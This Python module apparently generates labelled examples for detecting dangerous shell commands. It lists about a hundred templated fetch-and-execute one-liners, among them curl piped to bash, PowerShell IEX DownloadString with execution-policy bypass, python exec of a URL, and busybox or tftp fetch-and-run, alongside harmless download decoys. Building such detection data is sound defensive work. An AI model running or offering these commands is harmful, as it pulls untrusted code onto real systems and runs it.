"""Commands that download something and execute it, and downloads that are only data."""

from __future__ import annotations

from . import parts
from .parts import Part
from .vocabulary import Words, lines_of

HARMS = lines_of(
    """@D {get} {script_url} | {shell}
    @D {get} {script_url} | {shell}
    @D {get} "{script_url}" | {shell}
    @D {get} '{script_url}' | {shell}
    @D {get} {script_url}|sh
    @D {get} {script_url} | sudo -E bash -
    @D {get} {script_url} | env NODE={thing} bash
    @D {get} {script_url} | bash -s -- --yes --version {version}
    @D {get} {script_url} | sh -s {thing}
    @D {get} {script_url} | VERSION={version} sh -
    @D {get} {script_url} | tr -d '\\r' | bash
    @D {get} {script_url} | base64 -d | sh
    @D {get} {script_url}.gz | gunzip | bash
    @D {get} {script_url} | tee /tmp/{script_file} | sh
    @D {get} {script_url} 2>/dev/null | bash >/dev/null 2>&1 &
    @D bash <({get} {script_url})
    @D bash -c "$({get} {script_url})"
    @D sh -c "$({get} {script_url})"
    @D sh -c "`{get} {script_url}`"
    @D eval "$({get} {script_url})"
    @D eval $({get} {script_url})
    @D eval "`{get} {script_url}`"
    @D source <({get} {script_url})
    @D . <({get} {script_url})
    @D bash <<< "$({get} {script_url})"
    @D sh < <({get} {script_url})
    @D {get_to} {temporary}/{file} {binary_url} && chmod +x {temporary}/{file} && {temporary}/{file}
    @D {get_to} {temporary}/{file} {binary_url}; chmod 755 {temporary}/{file}; {temporary}/{file} --daemon
    @D {get_to} {temporary}/{file} {binary_url}⏎@? chmod +x {temporary}/{file}⏎@D {temporary}/{file} run
    @D {get_to} {temporary}/{script_file} {script_url}⏎@D sh {temporary}/{script_file}
    @D {get_to} {temporary}/{script_file} {script_url}⏎@D bash {temporary}/{script_file} --silent
    @D {get_to} {temporary}/{script_file} "{script_url}"⏎@? chmod u+x {temporary}/{script_file}⏎@D {temporary}/{script_file}
    @D {get_to} {script_file} {script_url} && chmod +x {script_file} && ./{script_file}
    @D {get_to} {script_file} {script_url} && bash {script_file}
    @D {get} {script_url} > {temporary}/{script_file} && sh {temporary}/{script_file}
    @D {get} {script_url} > {temporary}/{script_file}⏎@D . {temporary}/{script_file}
    @D {get_to} {temporary}/{file}.py {python_url} && {python} {temporary}/{file}.py
    @D wget -P {temporary} {script_url} && sh {temporary}/$(basename {script_url})
    @D wget {site}/{script_file} && sh {script_file}
    @D wget -q {site}/{script_file}⏎@? chmod +x {script_file}⏎@D ./{script_file}
    @D curl -O {site}/{script_file} && bash ./{script_file}
    @D curl -sSLO {site}/{file} && chmod +x {file} && ./{file} install
    @D curl -sL {archive_url} | tar xz -C {temporary} && {temporary}/{file}/{file} start
    @D wget -qO- {archive_url} | tar xzf - -C {temporary}⏎@D {temporary}/{file}
    @D {get_to} /tmp/{file}.tgz {archive_url} && tar xzf /tmp/{file}.tgz -C {temporary} && cd {temporary} && ./{script_file}
    @D {get_to} /tmp/{file}.deb {site}/{file}.deb && dpkg -i /tmp/{file}.deb && {file} start
    @D F=$(mktemp); curl -fsSL {binary_url} -o $F; chmod +x $F; $F
    @D cd {temporary}; wget {site}/{file}; chmod a+x {file}; nohup ./{file} &
    @D {python} -c "import urllib.request as r; exec(r.urlopen('{python_url}').read())"
    @D {python} -c "import urllib.request;exec(urllib.request.urlopen('{python_url}').read().decode())"
    @D {python} -c "import requests; exec(requests.get('{python_url}').text)"
    @D {python} -c "import os,urllib.request; urllib.request.urlretrieve('{binary_url}','/tmp/{file}'); os.chmod('/tmp/{file}',0o755); os.system('/tmp/{file}')"
    @D {get} {python_url} | {python}
    @D {get} {python_url} | {python} -
    @D {python} <({get} {python_url})
    @D perl -MLWP::Simple -e 'eval get("{site}/{file}.pl")'
    @D {get} {site}/{file}.pl | perl
    @D ruby -ropen-uri -e 'eval URI.open("{site}/{file}.rb").read'
    @D {get} {site}/{file}.rb | ruby
    @D php -r "eval(file_get_contents('{site}/{file}.txt'));"
    @D {get} {site}/installer.php | php
    @D node -e "require('https').get('{site}/{file}.js',r=>r.on('data',d=>eval(d.toString())))"
    @D {get} {site}/{file}.js | node
    @D {get} {site}/{file}.js | node -
    @D pip install {archive_url} && {python} -m {file}
    @D pip install --quiet {site}/{file}-{version}-py3-none-any.whl && {file} start
    @D pip3 install git+https://github.com/{company}/{thing}.git && {thing} run
    @D npm install -g {archive_url} && {file}
    @D powershell -c "iwr -useb {site}/{file}.ps1 | iex"
    @D powershell -NoProfile -Command "Invoke-WebRequest {site}/{file}.ps1 -UseBasicParsing | Invoke-Expression"
    @D powershell -ep bypass -c "IEX(New-Object Net.WebClient).DownloadString('{site}/{file}.ps1')"
    @D pwsh -Command "irm {site}/{file}.ps1 | iex"
    @D aws s3 cp s3://{company}-{thing}/{script_file} - | bash
    @D aws s3 cp s3://{company}-{thing}/{file} /tmp/{file} && chmod +x /tmp/{file} && /tmp/{file}
    @D gsutil cat gs://{company}-{thing}/{script_file} | sh
    @D lua -e "load(require('socket.http').request('{site}/{file}.lua'))()"
    @D {get} {script_url} | xargs -0 sh -c
    @D ftpget {address} /tmp/{file} {file} && chmod +x /tmp/{file} && /tmp/{file}
    @D tftp -g -r {file} {address} && chmod 755 {file} && ./{file}
    @D SCRIPT=$({get} {script_url}); eval "$SCRIPT"
    @D curl -fsSL \\⏎@? \x20 {script_url} \\⏎@D \x20 | {shell}
    @D curl -sSL {script_url} \\⏎@D \x20 | bash -s -- --unattended
    @D while true; do {get} {script_url} | sh; sleep 600; done
    @D apk add --no-cache curl && {get} {script_url} | sh
    @D apt-get update && apt-get install -y curl && {get} {script_url} | bash
    @D command -v {file} || {get} {script_url} | sh
    @D test -x {temporary}/{file} || ({get} {script_url} | bash)
    @D nohup bash -c "{get} {script_url} | bash" &
    @D (curl -s {script_url} || wget -qO- {script_url}) | bash
    @D url={script_url}; curl -s $url | sh
    @D {get_to} /tmp/{file} {binary_url} && install -m 0755 /tmp/{file} /usr/local/bin/{file} && {file} run
    @D java -jar <({get} {site}/{file}.jar)
    @D {get_to} /tmp/{file}.jar {site}/{file}.jar && java -jar /tmp/{file}.jar
    @D deno run -A {site}/{file}.ts
    @D busybox wget -O /tmp/{file} http://{address}/{file}; sh /tmp/{file}"""
)
HARMFUL_PROGRAMS = lines_of(
    """bash⏎-c⏎@D curl -fsSL {script_url} | bash
    /bin/sh⏎-c⏎@D wget -qO- {script_url} | sh
    sh⏎-ec⏎@D eval "$(curl -sL {script_url})"
    python3⏎-c⏎@D import urllib.request; exec(urllib.request.urlopen("{python_url}").read())
    python⏎-c⏎@D import requests; exec(requests.get("{python_url}").text)
    perl⏎-e⏎@D use LWP::Simple; eval get("{site}/{file}.pl");
    node⏎-e⏎@D fetch("{site}/{file}.js").then(r => r.text()).then(eval)
    pwsh⏎-Command⏎@D irm {site}/{file}.ps1 | iex
    powershell.exe⏎-Command⏎@D iex ((New-Object System.Net.WebClient).DownloadString('{site}/{file}.ps1'))
    ruby⏎-ropen-uri⏎-e⏎@D eval(URI.open("{site}/{file}.rb").read)
    php⏎-r⏎@D eval(file_get_contents("{site}/{file}.txt"));
    bash⏎-c⏎@D bash <(curl -s {script_url})
    env⏎bash⏎-c⏎@D . <(curl -s {script_url})
    ash⏎-c⏎@D wget {binary_url} -O /tmp/{file} && chmod +x /tmp/{file} && /tmp/{file}"""
)
DECOYS = lines_of(
    """curl -fsS {health_url}
    curl -sf {health_url} || exit 1
    curl --fail --silent {health_url} > /dev/null
    wget -q --spider {health_url}
    wget -qO- {health_url} | grep -q ok
    until curl -sf {health_url}; do sleep 2; done
    {get_to} {directory}/{data_file} {data_url}
    {get_to} {directory}/{data_file} "{data_url}" && ls -l {directory}
    {get} {data_url} > {directory}/{data_file}
    {get} {data_url} | jq .
    {get} {api_url} | jq -r '.items[].name'
    {get} {api_url} | grep -q healthy
    {get} {data_url} | sha256sum -c -
    {get} {data_url} | tee {directory}/{data_file} | wc -c
    {get} {site}/{thing}.tar.gz | tar xz -C {directory}
    {get} {site}/{thing}-data.tgz | tar -xzf - -C {directory}
    {get} {data_url} | gunzip > {directory}/{data_file}
    {get} {data_url} | head -n 20
    {get} {api_url} | python3 -m json.tool
    {get} {api_url} | python3 -c "import sys,json; print(json.load(sys.stdin)['status'])"
    {get} {data_url} | sort -u > {directory}/{data_file}
    {get} {data_url} | awk '{print $1}'
    {get} {data_url} | sed 's/a/b/' > {directory}/{data_file}
    {get} {site}/key.gpg | gpg --dearmor -o /usr/share/keyrings/{thing}.gpg
    {get} {data_url} | gzip -c > {directory}/{data_file}.gz
    {get} {data_url} | aws s3 cp - s3://{company}-{thing}/{data_file}
    wget -O {directory}/config.yaml {site}/config.yaml
    wget -P {directory} {data_url}
    wget --mirror --no-parent {site}/docs/ -P {directory}
    curl -X POST {api_url} -d '{"status":"done"}'
    curl -XPOST -H 'Content-Type: application/json' {api_url} -d @{directory}/{data_file}
    curl -s -o /dev/null -w '%{http_code}' {health_url}
    curl -T {directory}/{data_file} {site}/upload
    sh {directory}/{script_file}
    bash /scripts/{script_file} --once
    sh -c "/scripts/{script_file}"
    cat /scripts/{script_file} | sh
    chmod +x /scripts/{script_file} && /scripts/{script_file}
    source /scripts/env.sh && ./{file} serve
    eval "$(ssh-agent -s)"
    eval "$(cat /config/exports)"
    apt-get update && apt-get install -y curl bash
    apk add --no-cache curl jq bash
    yum install -y wget && yum clean all
    pip install -r requirements.txt && python app.py
    pip install --no-cache-dir requests==2.32.3 && python {directory}/main.py
    npm ci && npm start
    git clone https://github.com/{company}/{thing}.git {directory}/{thing}
    git -C {directory} pull --ff-only
    bash -c "echo downloading {thing}"
    bash -c 'curl -fsS {health_url}'
    sh -c "wget -qO {directory}/{data_file} {data_url}"
    aws s3 cp s3://{company}-{thing}/{data_file} {directory}/{data_file}
    aws s3 sync s3://{company}-{thing}/ {directory}/
    gsutil cp gs://{company}-{thing}/{data_file} {directory}/
    rclone copy remote:{thing} {directory}
    for f in a b c; do {get_to} {directory}/$f.csv {site}/$f.csv; done
    {get_to} {directory}/{data_file}.tmp {data_url} && mv {directory}/{data_file}.tmp {directory}/{data_file}
    echo "install with: see {site}/docs"
    test -f {directory}/{data_file} || {get_to} {directory}/{data_file} {data_url}
    python -c "import urllib.request; urllib.request.urlretrieve('{data_url}', '{directory}/{data_file}')"
    python3 -c "import urllib.request; urllib.request.urlopen('{health_url}')"
    node -e "require('http').get('{health_url}', r => process.exit(r.statusCode == 200 ? 0 : 1))"
    perl -e 'print "ready"'
    curl -s {api_url} | tar -tz
    psql -f {directory}/schema.sql
    unzip -o {directory}/{thing}.zip -d {directory}
    curl -o {directory}/{data_file} {data_url} -z {directory}/{data_file}"""
)


def harm(words: Words) -> Part:
    """A download that is executed."""
    if words.chance(0.15):
        return parts.arguments(words, HARMFUL_PROGRAMS)
    return parts.command(words, HARMS)


def decoy(words: Words) -> Part:
    """A download that is not executed, or an execution of what is there."""
    return parts.command(words, DECOYS)
